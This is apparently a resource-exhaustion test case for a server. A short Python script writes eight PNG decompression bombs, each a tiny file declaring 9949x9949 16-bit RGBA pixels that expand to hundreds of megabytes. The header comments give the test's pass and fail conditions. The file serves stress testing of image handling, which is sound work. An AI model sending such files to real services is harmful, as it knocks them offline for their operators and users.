# tries: to make the server hold eight images of 99 million pixels each
# escaped if: the answer is late, the server has grown, or still computes afterwards
# timeout: 20
# host check: server_stays_small_and_rests
import struct, zlib

def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

side = 9949
packer = zlib.compressobj(1)
data = b"".join(packer.compress(bytes(1 + 8 * side)) for _ in range(side)) + packer.flush()
for number, interlace in enumerate((0, 1) * 4):  # 16 bits of red, green, blue and alpha
    with open("many%d.png" % number, "wb") as file:
        file.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 16, 6, 0, 0, interlace)))
        file.write(chunk(b"IDAT", data) + chunk(b"IEND", b""))
